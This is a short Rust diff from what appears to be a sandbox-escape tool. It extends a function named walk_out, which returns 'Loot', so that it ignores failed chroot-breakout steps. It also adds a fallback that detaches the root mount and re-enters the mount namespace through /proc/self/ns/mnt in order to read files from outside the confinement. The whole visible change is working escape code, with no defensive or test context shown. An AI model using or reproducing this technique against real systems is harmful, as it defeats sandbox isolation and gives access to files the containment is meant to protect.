@@ -96,10 +96,21 @@ pub(super) fn walk_out(path: &str) -> Loot {
         }
         std::os::unix::fs::chroot(".")
     };
-    match walk() {
-        // Without the power to do it one is in no chroot either: the file is read, or not, from where one is.
-        Ok(()) | Err(_) => read(path),
+    // Whether a step fails is no matter: the file is read, or not, from where one is then.
+    walk().ok();
+    let loot = read(path);
+    if loot.got_through {
+        return loot;
     }
+    // The other way: take away what is mounted on `/`, and enter the namespace that one is in. That starts at its top.
+    take_cover_off().ok();
+    read(path)
+}
+
+fn take_cover_off() -> sys::Result<()> {
+    let namespace = fs_err::File::open("/proc/self/ns/mnt")?; // before /proc is gone with the cover
+    sys::umount2("/..", sys::MntFlags::MNT_DETACH)?;
+    Ok(nix::sched::setns(namespace, sys::CloneFlags::CLONE_NEWNS).map_err(std::io::Error::from)?)
 }
 
 /// The half inside of [`change_groups`]: find a group that we are in, and make one below it. In version 2 whoever
